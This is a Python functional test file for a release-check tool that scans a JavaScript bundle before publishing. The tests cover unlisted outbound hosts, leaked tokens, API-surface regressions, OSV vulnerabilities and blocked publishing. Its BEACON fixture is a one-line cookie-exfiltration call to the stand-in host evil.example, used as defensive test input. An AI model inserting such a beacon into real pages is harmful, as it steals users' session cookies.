"""release check: the command line's gate before publish."""

import json
import re
import zipfile

import pytest

from tests.fakes.web_server import Reply, WebServer
from tests.functional.conftest import Run
from tests.functional.library import Library

BEACON = 'navigator.sendBeacon("https://evil.example/b", document.cookie);\n'
LISTS = """
[domains]
connect = ["evil.example"]
"""
WAIVER = """
[[domains.waivers]]
files = "tag.min.js"
rule = "url"
host = "evil.example"
reason = "shown in a text only"
owner = "Ann"
expires = "2099-12-31"
"""


def built(library: Library, run: Run, script: str, domains: str = "") -> None:
    toml = (library.folder / "release.toml").read_text()
    library.write("release.toml", toml + domains)
    library.release("1.1.0", script)
    assert run("build").code == 0


def test_a_bundle_without_domains_may_load_from_nowhere(library: Library, run: Run) -> None:
    built(library, run, BEACON)
    ended = run("check")
    assert ended.code == 18
    assert "dist/tag.min.js:1:1: connect, unauthorised: navigator.sendBeacon: evil.example is on no list" in ended.out
    assert '[domains] connect = ["evil.example"] authorises it' in ended.out
    assert "tag 1.1.0 is rejected: 1 finding, 1 of them of hosts on no list" in ended.err


def test_a_bundle_that_keeps_to_its_lists_passes(library: Library, run: Run) -> None:
    built(library, run, BEACON, LISTS)
    ended = run("check")
    assert ended.code == 0, ended.out
    assert "1 files, 65 bytes: nothing to object to" in ended.out
    left = json.loads((library.folder / ".release" / "check.json").read_text())
    assert left["findings"] == []
    assert left["version"] == "1.1.0"


def test_a_waiver_is_logged(library: Library, run: Run) -> None:
    built(library, run, 'const help = "https://evil.example/docs";\n', WAIVER)
    ended = run("check")
    assert ended.code == 0, ended.out
    assert "waived until 2099-12-31 by Ann" in ended.err


def test_reports_for_machines(library: Library, run: Run) -> None:
    built(library, run, BEACON)
    ended = run("check", "--json", "--sarif", "check.sarif", "--code-quality", "quality.json")
    assert ended.code == 18
    assert json.loads(ended.out)["findings"][0]["host"] == "evil.example"
    assert json.loads((library.folder / "check.sarif").read_text())["runs"][0]["results"]
    assert json.loads((library.folder / "quality.json").read_text())[0]["check_name"] == "connect"


def test_without_a_bundle_there_is_nothing_to_check(run: Run) -> None:
    assert run("check").code == 5


def test_other_bytes_than_were_built_are_not_checked(library: Library, run: Run) -> None:
    built(library, run, "window.tag = 1;\n")
    library.write("dist/tag.min.js", BEACON)
    assert run("check").code == 7


def test_lists_that_mean_nothing_are_refused(library: Library, run: Run) -> None:
    toml = (library.folder / "release.toml").read_text()
    bad = '\n[domains]\nconnect = ["https://api.example.com", "*.com", "10.0.0.1"]\n' + WAIVER.replace("12-31", "02-30")
    library.write("release.toml", toml + bad)
    ended = run("config", "check")
    assert ended.code == 3
    assert "'https://api.example.com' is not a host such as api.example.com" in ended.err
    assert "'*.com' is not a host" in ended.err
    library.write("release.toml", toml + bad.replace('"https://api.example.com", "*.com", ', ""))
    ended = run("config", "check")
    assert "10.0.0.1 is an address, not a name" in ended.err
    assert "2099-02-30 is no day of the calendar" in ended.err


# Besides hosts: tests/unit/test_check_findings.py has the rules.


def test_a_secret_is_never_printed(library: Library, run: Run) -> None:
    token = "glpat" + "-" + "abcdefghij0123456789"
    built(library, run, f'window.tag = "{token}";\n')
    for options in (["check"], ["check", "--json", "--sarif", "check.sarif", "--code-quality", "quality.json"]):
        ended = run(*options)
        assert ended.code == 18
        assert "a GitLab token: glpa..." in ended.out
        assert token not in ended.out + ended.err
    files = [*library.folder.glob("*.sarif"), *library.folder.glob("quality.json"), *library.folder.glob(".release/*")]
    assert len(files) > 2
    assert not [file for file in files if token.encode() in file.read_bytes()]


def test_a_release_is_compared_with_the_one_before_at_the_public_address(library: Library, run: Run) -> None:
    before = "var Tag={start:1,stop:2};\n"
    library.release("1.0.0", before)
    assert run("build").code == 0
    manifest = (library.folder / "dist/manifest.json").read_bytes()
    pages = {"/tag/1.0.0/manifest.json": Reply(body=manifest), "/tag/1.0.0/tag.min.js": Reply(body=before.encode())}
    with WebServer(pages) as site:
        toml = (library.folder / "release.toml").read_text()
        library.write("release.toml", toml.replace("https://cdn.example.com", site.url))
        built(library, run, "var Tag={start:1};\n", "\n[budgets]\ngrowth-percent = 5\n")
        ended = run("check", "--against", "previous")
        assert (ended.code, "comparing with 1.0.0" in ended.err) == (18, True)
        assert "surface, found: Tag.stop is gone, which 1.0.0 offered" in ended.out
        assert run("check").code == 18
        assert "no earlier release to compare with" in run("check").out
        absent = run("check", "--against", "0.9.0")
        assert (absent.code, "0.9.0 is not at the public address (HTTP 404)" in absent.err) == (10, True)
    forged = {**pages, "/tag/1.0.0/tag.min.js": Reply(body=b"var Tag={start:1};\n")}
    with WebServer(forged) as site:
        toml = (library.folder / "release.toml").read_text()
        library.write("release.toml", re.sub(r"http://127\.0\.0\.1:\d+", site.url, toml))
        assert run("check", "--against", "1.0.0").code == 7


def test_a_first_release_has_nothing_before_it(library: Library, run: Run) -> None:
    built(library, run, "window.tag = 1;\n")
    ended = run("check", "--against", "previous")
    assert (ended.code, "no version before 1.1.0 has a tag" in ended.err) == (4, True)


@pytest.mark.parametrize("form", ["file", "folder", "zip"])
def test_known_vulnerabilities_are_read_from_what_osv_gives(library: Library, run: Run, form: str) -> None:
    affected = {"package": {"ecosystem": "npm", "name": "left-pad"}, "versions": ["1.0.0"]}
    record = json.dumps({"id": "GHSA-1", "summary": "pads evil", "affected": [affected]})
    place = library.folder.parent / {"file": "one.json", "folder": "osv", "zip": "all.zip"}[form]
    if form == "zip":
        with zipfile.ZipFile(place, "w") as archive:
            archive.writestr("GHSA-1.json", record)
    elif form == "folder":
        place.mkdir()
        (place / "GHSA-1.json").write_text(record)
    else:
        place.write_text(record)
    package = {"version": "1.0.0", "integrity": "sha512-" + "A" * 86 + "=="}
    lock = {"lockfileVersion": 3, "packages": {"": {}, "node_modules/left-pad": package}}
    library.write("package-lock.json", json.dumps(lock))
    built(library, run, "window.tag = 1;\n")
    assert run("check").code == 0
    ended = run("check", "--osv", str(place))
    assert ended.code == 18
    assert "left-pad@1.0.0: GHSA-1: pads evil" in ended.out


@pytest.mark.parametrize(("content", "code"), [(None, 10), (b"PK\x03\x04not a zip", 3)])
def test_a_file_of_vulnerabilities_that_says_nothing_is_no_pass(
    library: Library, run: Run, content: bytes | None, code: int
) -> None:
    built(library, run, "window.tag = 1;\n")
    place = library.folder.parent / "all.zip"
    if content is not None:
        place.write_bytes(content)
    assert run("check", "--osv", str(place)).code == code


def test_a_rejected_bundle_is_neither_published_nor_recorded(library: Library, run: Run) -> None:
    built(library, run, BEACON)
    assert run("check").code == 18
    for command in (["publish"], ["publish", "--dry-run"]):
        ended = run(*command)
        assert (ended.code, "was rejected by 'release check': 1 findings" in ended.err) == (12, True)
    library.write(".release/check.json", "{}")
    assert run("publish").code == 16
